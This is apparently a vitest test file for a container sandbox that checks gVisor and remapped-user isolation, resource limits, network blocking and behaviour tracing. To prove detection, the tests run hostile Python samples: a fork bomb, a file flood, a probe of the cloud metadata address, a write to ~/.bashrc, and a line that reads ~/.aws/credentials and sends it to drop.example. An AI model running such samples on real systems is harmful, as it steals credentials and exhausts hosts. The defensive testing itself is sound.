import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Sandbox } from "../../src/ports.ts";
import type { ImageSettings } from "../../src/sandbox/images/image-settings.ts";
import { readImageRecord } from "../../src/sandbox/images/image-record.ts";
import { proveTracer, proveWalls } from "../../src/sandbox/proof.ts";
import { createSandbox } from "../../src/sandbox/sandbox.ts";
import { RUN_LABEL } from "../../src/sandbox/specification.ts";
import { MIB, PREPARE_MS, prepareSandbox, runTrial } from "./prepared.ts";
import { type SecondEngine, startSecondEngine } from "./second-engine.ts";
import { allExpectedOn, heldOf } from "./walls-by-engine.ts";

const now = () => new Date();
let settings: ImageSettings;
let base = "";

/** An engine that has the images which these tests need. */
async function engineWith(options: { remap: boolean }): Promise<SecondEngine> {
  ({ settings } = await prepareSandbox());
  const record = await readImageRecord(settings.dataDir);
  base = record["base"]?.id ?? "";
  const second = await startSecondEngine(options);
  for (const name of ["base", "python", "recorder", "tracer"])
    await second.load(record[name]?.id ?? "");
  return second;
}

describe("gVisor", () => {
  let second: SecondEngine;
  let sandbox: Sandbox;
  beforeAll(async () => {
    second = await engineWith({ remap: false });
    sandbox = createSandbox({ ...settings, engine: second.engine, runtime: "runsc", now });
  }, PREPARE_MS);
  afterAll(() => second.stop());

  it("holds its own list of limits and walls, and names what it lacks", async () => {
    const checks = await proveWalls(second.engine, base, settings.imagesDir, "runsc");
    expect(checks.filter(({ ok }) => !ok)).toEqual([]);
    expect(heldOf(checks)).toEqual(allExpectedOn("`runsc`"));
  });

  it("runs a program in a kernel of its own, and says so", async () => {
    const run = await runTrial(sandbox, { command: ["sh", "-c", "cat /proc/version; exit 3"] });
    expect(run).toMatchObject({ outcome: "failed", reason: "The command exited 3." });
    expect(run.log.tail).toContain("Linux version 4.4.0");
    expect(run.runtime).toMatch(/, gVisor$/);
    expect(run.witnesses.join("\n")).toContain("absent: the recorder");
  });

  it("reaches no network", async () => {
    const program = `
import socket
for address in ("169.254.169.254", "192.0.2.1", "172.17.0.1"):
    try: socket.create_connection((address, 80), 3); print("reached")
    except OSError as error: print("no")
`;
    const run = await runTrial(sandbox, { command: ["python3", "-c", program] });
    expect(run.log.tail).toBe("no\nno\nno\n");
  });

  it.each<[string, string, RegExp]>([
    ["too much memory", "x = bytearray(1 << 30)", /^out-of-memory$/],
    [
      "a fork bomb",
      "import os\nwhile True:\n  try: os.fork()\n  except OSError: pass",
      /^(timed-out|out-of-memory|broken|failed)$/,
    ],
    [
      "a flood of files",
      "i = 0\nwhile True:\n  open(f'/workspace/{i}', 'w').close(); i += 1",
      /^disk-limit$/,
    ],
  ])("ends %s, with nothing left over", async (_, program, outcome) => {
    const limits = { memoryBytes: 300 * MIB, workspaceBytes: 32 * MIB, workspaceInodes: 500 };
    const run = await runTrial(sandbox, {
      command: ["python3", "-c", program],
      limits: { ...limits, tmpBytes: 16 * MIB, homeBytes: 16 * MIB, wallSeconds: 15 },
    });
    expect(run.outcome).toMatch(outcome);
    expect(await second.engine.labelled(RUN_LABEL)).toEqual([]);
  });

  it("is not taken for anything else where the engine does not have it", async () => {
    const elsewhere = createSandbox({ ...settings, runtime: "runsc", now });
    expect(await elsewhere.unready()).toContain("no runtime of the name runsc");
    expect(await runTrial(elsewhere, { command: ["true"] })).toMatchObject({ outcome: "broken" });
  });
});

describe("an engine that remaps the ids of users", () => {
  let second: SecondEngine;
  let sandbox: Sandbox;
  beforeAll(async () => {
    second = await engineWith({ remap: true });
    sandbox = createSandbox({ ...settings, engine: second.engine, now });
  }, PREPARE_MS);
  afterAll(() => second.stop());

  it("holds every limit and wall", async () => {
    const checks = await proveWalls(second.engine, base, settings.imagesDir);
    expect(heldOf(checks)).toEqual(allExpectedOn("`runc`, ids remapped"));
  });

  it("runs a program as a user who is nobody on the host", async () => {
    const command = ["sh", "-c", "cat /proc/self/uid_map; id -u; echo x >here; ls"];
    const run = await runTrial(sandbox, { command, files: { there: "" } });
    expect(run.outcome).toBe("passed");
    expect(run.log.tail).toMatch(/^\s+0\s+[1-9]\d{4,}\s+65536\n10001\nhere\nthere\n$/);
  });

  it("follows its processes without being asked to, and is proved there", async () => {
    const record = await readImageRecord(settings.dataDir);
    const images = { image: base, tracerImage: record["tracer"]?.id ?? "", recorderImage: null };
    const { engine } = second;
    const checks = await proveTracer(engine, images, settings.imagesDir, settings.readResults);
    expect(checks.filter(({ ok }) => !ok)).toEqual([]);
    const program =
      "import os, socket; socket.socket().connect_ex(('203.0.113.7', 80)); open('/home/sandbox/.bashrc', 'w')";
    const run = await runTrial(sandbox, { command: ["python3", "-c", program] });
    const told = run.behaviours.map(({ capability, process }) => `${capability} by ${process}`);
    expect(told.toSorted()).toEqual([
      expect.stringMatching(/^network\.send by python3 -c/),
      expect.stringMatching(/^write\.startup by python3 -c/),
    ]);
    expect(run.witnesses.join("\n")).toMatch(/^processes: a tracer/m);
  });

  it("has recorder and tracer in one run, which agree about who read and sent", async () => {
    const program =
      "import os, socket; open(os.path.expanduser('~/.aws/credentials')).read(); socket.create_connection(('drop.example', 80), 5).send(b'x')";
    const run = await runTrial(sandbox, { command: ["python3", "-c", program] });
    const witnesses = run.witnesses.join("\n");
    expect(witnesses).toMatch(/^network: a recorder/m);
    expect(witnesses).toMatch(/^processes: a tracer/m);
    expect(run.behaviours.map(({ capability, target }) => `${capability} ${target}`)).toEqual([
      "read.credential ~/.aws/credentials",
      "network.send drop.example:80 (TCP)",
    ]);
    const [reader, sender] = run.behaviours.map(({ process }) => process);
    expect(reader).toMatch(/^python3 -c .*, first reading, then sending$/);
    expect(sender).toBe(reader);
  });
});
